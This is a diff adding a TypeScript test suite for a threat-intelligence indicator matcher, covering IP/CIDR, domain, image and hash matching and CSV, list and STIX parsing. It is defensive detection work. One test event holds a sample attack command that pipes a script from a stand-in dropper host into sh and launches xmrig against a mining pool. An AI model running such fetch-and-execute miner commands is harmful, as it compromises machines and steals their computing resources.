@@ -1,0 +1,170 @@
+import { IndicatorSet, type Indicator } from './indicator-set';
+import { matchIntel, observablesInText } from './intel-matcher';
+import { normalizeImage, normalizeUrl } from './normalize';
+import { parseIndicatorCsv, parseIndicatorList, parseStixBundle, typeFromFileName } from './parse-indicators';
+
+function setOf(...inds: [Indicator['type'], string][]): IndicatorSet {
+  const s = new IndicatorSet();
+  for (const [type, value] of inds) expect(s.add({ type, value, source: 'test' })).toBe(true);
+  return s;
+}
+
+describe('normal forms', () => {
+  it('treats Docker image references as dockerd does', () => {
+    const same = ['alpine', 'alpine:latest', 'docker.io/library/alpine:latest', 'index.docker.io/library/alpine'];
+    for (const s of same)
+      expect(normalizeImage(s)).toEqual({
+        repo: 'docker.io/library/alpine',
+        tag: s.includes(':l') ? 'latest' : undefined,
+        digest: undefined,
+      });
+    expect(normalizeImage('ghcr.io/Org/Miner:v1')).toEqual({ repo: 'ghcr.io/org/miner', tag: 'v1', digest: undefined });
+    expect(normalizeImage('localhost:5000/x')?.repo).toBe('localhost:5000/x');
+    expect(normalizeImage(`a@sha256:${'A'.repeat(64)}`)?.digest).toBe(`sha256:${'a'.repeat(64)}`);
+    expect(normalizeImage('not an image')).toBeUndefined();
+  });
+
+  it('normalises URLs (scheme and host case, defanged hxxp) and keeps the path', () => {
+    expect(normalizeUrl('HXXP://Dropper[.]Example/m.sh#x')).toEqual({
+      normal: 'http://dropper.example/m.sh',
+      host: 'dropper.example',
+    });
+    expect(normalizeUrl('no url')).toBeUndefined();
+  });
+});
+
+describe('indicator set', () => {
+  const set = setOf(
+    ['ip', '203.0.113.7'],
+    ['cidr', '198.51.100.0/24'],
+    ['cidr', '2001:db8:bad::/48'],
+    ['domain', 'Miner.Example.'],
+    ['url', 'http://dropper.example/m.sh'],
+    ['image', 'xmrig/xmrig'],
+    ['image', 'alpine:3.18'],
+    ['digest', `sha256:${'b'.repeat(64)}`],
+    ['hash', 'd41d8cd98f00b204e9800998ecf8427e'],
+  );
+
+  it('matches addresses and networks, v4, v6 and v4-mapped', () => {
+    expect(set.matchIp('203.0.113.7')?.value).toBe('203.0.113.7');
+    expect(set.matchIp('::ffff:198.51.100.200')?.value).toBe('198.51.100.0/24');
+    expect(set.matchIp('2001:db8:bad:1::9')?.value).toBe('2001:db8:bad::/48');
+    expect(set.matchIp('203.0.113.8')).toBeUndefined();
+  });
+
+  it('matches domains with their subdomains, not lookalikes', () => {
+    expect(set.matchDomain('pool.eu.miner.example')?.value).toBe('Miner.Example.');
+    expect(set.matchDomain('notminer.example')).toBeUndefined();
+    expect(set.matchUrl('https://x.miner.example/a')?.type).toBe('domain');
+    expect(set.matchUrl('http://DROPPER.example/m.sh')?.type).toBe('url');
+    expect(set.matchUrl('http://198.51.100.3:8080/x')?.type).toBe('cidr');
+  });
+
+  it('matches images with and without tag, and digests', () => {
+    expect(set.matchImage('docker.io/xmrig/xmrig:6.21')?.value).toBe('xmrig/xmrig');
+    expect(set.matchImage('alpine:3.18')?.value).toBe('alpine:3.18');
+    expect(set.matchImage('alpine')).toBeUndefined(); // alpine:latest is not alpine:3.18
+    expect(set.matchImage(`nginx@sha256:${'b'.repeat(64)}`)?.type).toBe('digest');
+    expect(set.matchHash('D41D8CD98F00B204E9800998ECF8427E')?.type).toBe('hash');
+  });
+
+  it('refuses values that are not of their type', () => {
+    const s = new IndicatorSet();
+    expect(s.add({ type: 'ip', value: '999.1.1.1', source: 't' })).toBe(false);
+    expect(s.add({ type: 'domain', value: 'a b', source: 't' })).toBe(false);
+    expect(s.add({ type: 'hash', value: 'xyz', source: 't' })).toBe(false);
+    expect(s.size).toBe(0);
+  });
+});
+
+describe('matching events', () => {
+  const set = setOf(
+    ['ip', '203.0.113.7'],
+    ['domain', 'pool.miner.example'],
+    ['url', 'http://dropper.example/m.sh'],
+    ['image', 'miner-example/xmrig'],
+    ['cidr', '192.0.2.0/24'],
+  );
+
+  it('finds the client address, URLs, hosts and addresses in commands, and pulled images', () => {
+    const hits = matchIntel(
+      {
+        source: { ip: '203.0.113.7' },
+        process: {
+          command_line:
+            "sh -c 'curl -s http://dropper.example/m.sh | sh; ./xmrig -o stratum+tcp://pool.miner.example:3333 --donate 192.0.2.5'",
+        },
+        url: { query: 'fromImage=miner-example%2Fxmrig&tag=latest' },
+      },
+      set,
+    );
+    expect(hits.map((h) => [h.field, h.indicator.value])).toEqual([
+      ['source.ip', '203.0.113.7'],
+      ['process.command_line', 'http://dropper.example/m.sh'],
+      ['process.command_line', 'pool.miner.example'],
+      ['process.command_line', '192.0.2.0/24'],
+      ['url.query', 'miner-example/xmrig'],
+    ]);
+  });
+
+  it('reports nothing for a clean event and bounds the text it scans', () => {
+    expect(matchIntel({ source: { ip: '10.0.0.1' }, process: { command_line: 'ls -la' } }, set)).toEqual([]);
+    const o = observablesInText(`${'a.example '.repeat(10_000)}`);
+    expect(o.hosts.length).toBeLessThanOrEqual(256);
+  });
+});
+
+describe('indicator files', () => {
+  it('CSV: header, comments, quotes, and every bad line reported with its line', () => {
+    const r = parseIndicatorCsv(
+      'f.csv',
+      'type,value,source,description\n# c\nip,192.0.2.1,feed,"a, b"\nbogus,x\nurl,\n"ip,1\n',
+    );
+    expect(r.indicators).toEqual([{ type: 'ip', value: '192.0.2.1', source: 'feed', description: 'a, b' }]);
+    expect(r.errors.map((e) => e.location?.line)).toEqual([4, 5, 6]);
+    expect(r.errors.every((e) => e.code === 'INTEL_FILE_INVALID')).toBe(true);
+  });
+
+  it('plain lists take their type from the file name', () => {
+    expect(typeFromFileName('/x/bad-domains.txt')).toBe('domain');
+    expect(typeFromFileName('ips.list')).toBe('ip');
+    expect(typeFromFileName('images.txt')).toBe('image');
+    expect(typeFromFileName('stuff.txt')).toBeUndefined();
+    expect(parseIndicatorList('ips.txt', '# x\n192.0.2.1 # scanner\n\n', 'ip').indicators).toHaveLength(1);
+  });
+
+  it('STIX: simple patterns and ORs are read, others counted as unsupported warnings, revoked skipped', () => {
+    const ind = (pattern: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
+      type: 'indicator',
+      id: `indicator--${pattern.length}`,
+      pattern,
+      pattern_type: 'stix',
+      ...extra,
+    });
+    const bundle = {
+      type: 'bundle',
+      objects: [
+        ind("[ipv4-addr:value = '198.51.100.0/24']"),
+        ind("[domain-name:value = 'a.example'] OR [url:value = 'http://b.example/it\\'s']"),
+        ind("[file:hashes.'SHA-256' = '" + 'c'.repeat(64) + "']"),
+        ind("[ipv4-addr:value = '192.0.2.1' AND domain-name:value = 'x.example']"),
+        ind("[process:name = 'xmrig']"),
+        ind('x', { pattern_type: 'yara' }),
+        ind("[ipv4-addr:value = '192.0.2.9']", { revoked: true }),
+        { type: 'malware', id: 'malware--1' },
+      ],
+    };
+    const r = parseStixBundle('b.json', JSON.stringify(bundle));
+    expect(r.indicators.map((i) => [i.type, i.value])).toEqual([
+      ['ip', '198.51.100.0/24'],
+      ['domain', 'a.example'],
+      ['url', "http://b.example/it's"],
+      ['hash', 'c'.repeat(64)],
+    ]);
+    expect(r.unsupported).toBe(3);
+    expect(r.errors.every((e) => e.severity === 'warning')).toBe(true);
+    expect(parseStixBundle('b.json', '{"type":"x"}').errors[0]?.severity).toBe('error');
+    expect(parseStixBundle('b.json', 'not json').errors[0]?.code).toBe('INTEL_FILE_INVALID');
+  });
+});
